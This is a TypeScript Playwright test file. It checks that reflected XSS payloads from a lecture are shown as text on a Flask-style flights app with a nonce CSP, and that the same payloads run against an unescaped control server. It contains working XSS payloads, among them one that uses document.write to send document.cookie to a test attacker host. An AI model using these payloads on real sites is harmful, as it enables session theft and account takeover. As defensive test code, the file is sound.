// The lecture's reflected XSS (the Flask 404 page that echoes request.path)
// against the flights app, in a real Chromium: the payloads show up as text,
// no dialog opens, nothing reaches the attacker, and each answer carries a
// nonce CSP. The same payloads in the same browser against the lecture's
// handler as written (startReflectingServer) do open the dialog and do leak
// the cookie, so the detection is shown to see an attack that works.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { Page, Response } from 'playwright-core';
import { startFlights } from '../../apps/flights/test/harness.ts';
import { chromiumMissing, launchBrowser } from '../helpers/browser.ts';
import { REFLECTED_COOKIE, startAttackerSite, startReflectingServer, type SeenRequest } from '../helpers/attacker.ts';

interface Visit {
  response: Response;
  /** Messages of the dialogs opened while the page loaded. */
  dialogs: string[];
  /** Requests the attacker's server got while the page loaded. */
  stolen: SeenRequest[];
}

/** script-src of a CSP header, as a list of sources. */
function scriptSources(csp: string | undefined): string[] {
  const directive = (csp ?? '').split(';').map((d) => d.trim().split(/\s+/)).find(([name]) => name === 'script-src');
  return directive?.slice(1) ?? [];
}

test('the lecture XSS payloads stay text on the app and run on the unescaped control', { skip: chromiumMissing() ?? false }, async (t) => {
  const flights = await startFlights({ flights: 100 });
  t.after(() => flights.stop());
  const attacker = await startAttackerSite();
  t.after(() => attacker.close());
  const control = await startReflectingServer();
  t.after(() => control.close());
  const browser = await launchBrowser();
  t.after(() => browser.close());

  const app = flights.base;
  const page: Page = await (await browser.newContext()).newPage();
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    dialog.dismiss().catch(() => {});
  });

  // An alert() blocks the parser until the handler above dismisses it, and a
  // written <img> holds the load event until the attacker answers: once goto
  // has seen the load, everything a payload could do has happened.
  async function visit(url: string): Promise<Visit> {
    const dialogsFrom = dialogs.length;
    const seenFrom = attacker.seen.length;
    const response = await page.goto(url);
    assert.ok(response !== null);
    return { response, dialogs: dialogs.slice(dialogsFrom), stolen: attacker.seen.slice(seenFrom) };
  }

  const alertPath = "/<script>alert('hi')</script>";
  // The attacker percent-encodes the '?' of the stealing URL, or the browser
  // would end the path there; the browser encodes the rest (<, >, ", space).
  const stealPath = `/<script>document.write('<img src="${attacker.crossSite}/steal?c='+document.cookie+'">')</script>`;
  const stealUrlPath = stealPath.replaceAll('?', '%3F');

  await t.test('control: the unescaped 404 without CSP runs both payloads', async () => {
    const alerted = await visit(control.url + alertPath);
    assert.deepEqual(alerted.dialogs, ['hi']);
    assert.equal(await page.locator('script').count(), 1);

    const stealing = await visit(control.url + stealUrlPath);
    assert.deepEqual(
      stealing.stolen.map((r) => r.url),
      [`/steal?c=${REFLECTED_COOKIE}`],
    );
  });

  await t.test("/<script>alert('hi')</script> on the app is a 404 page that shows it as text", async () => {
    const { response, dialogs: opened, stolen } = await visit(app + alertPath);
    // Sent as the browser encodes a typed URL.
    assert.equal(new URL(response.request().url()).pathname, "/%3Cscript%3Ealert('hi')%3C/script%3E");
    assert.equal(response.status(), 404);
    assert.deepEqual(opened, []);
    assert.deepEqual(stolen, []);
    assert.equal(await page.locator('h1').textContent(), `Not Found: ${alertPath}`);
    assert.equal(await page.locator('script').count(), 0);

    const sources = scriptSources((await response.allHeaders())['content-security-policy']);
    assert.ok(sources.some((s) => /^'nonce-[A-Za-z0-9+/_-]{16,}={0,2}'$/.test(s)), `a nonce in script-src: ${sources.join(' ')}`);
    assert.ok(!sources.includes("'unsafe-inline'"));
    // A nonce is only worth something if it changes with every answer.
    const again = scriptSources((await (await visit(app + alertPath)).response.allHeaders())['content-security-policy']);
    assert.notDeepEqual(again, sources);
  });

  await t.test('the cookie-stealing payload on the app is text, and nothing reaches the attacker', async () => {
    const { response, dialogs: opened, stolen } = await visit(app + stealUrlPath);
    assert.equal(response.status(), 404);
    assert.deepEqual(opened, []);
    assert.deepEqual(stolen, []);
    assert.equal(await page.locator('h1').textContent(), `Not Found: ${stealPath}`);
    assert.equal(await page.locator('main img').count(), 0);
  });

  await t.test('search with a q that closes the attribute stays in the attribute', async () => {
    const q = '"><script>alert(1)</script>';
    const url = `/search?q=${q}`;

    const reflected = await visit(control.url + url);
    assert.deepEqual(reflected.dialogs, ['1'], 'control: the payload runs where q is echoed raw');

    const { response, dialogs: opened } = await visit(app + url);
    assert.equal(response.status(), 200);
    assert.deepEqual(opened, []);
    assert.equal(await page.locator('main input[name="q"]').inputValue(), q);
    assert.equal(await page.locator('script').count(), 0);
  });
});
